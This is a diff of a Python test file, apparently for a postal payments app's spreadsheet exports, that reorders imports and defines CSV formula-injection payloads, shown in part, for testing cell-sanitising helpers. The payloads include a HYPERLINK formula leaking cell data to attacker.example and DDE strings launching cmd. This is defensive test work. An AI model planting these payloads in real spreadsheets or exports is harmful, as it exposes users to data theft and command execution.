@@ -11,14 +11,14 @@ from openpyxl import load_workbook
 from payments import reports
 from payments.models import ReconciliationDay, ReconciliationItem
 from postal_gateway.accounts.models import Role
-from postal_gateway.dossiers.models import CollectedAmount, CollectionMethod, PaymentKind
 from postal_gateway.core.spreadsheets import csv_text, safe_cell, safe_row
+from postal_gateway.dossiers.models import CollectedAmount, CollectionMethod, PaymentKind
 from postal_gateway.statistics import export as statistics_export
 from postal_gateway.statistics.service import COUNT_KEYS, AgencyRow, Period, Report
-from tracking import reports as tracking_reports
-from tracking.vocabulary import LEG_LABELS, STATE_LABELS
 from tests import factories
 from tests.conftest import log_in
+from tracking import reports as tracking_reports
+from tracking.vocabulary import LEG_LABELS, STATE_LABELS
 
 HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Bấm vào đây")'
 PAYLOADS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
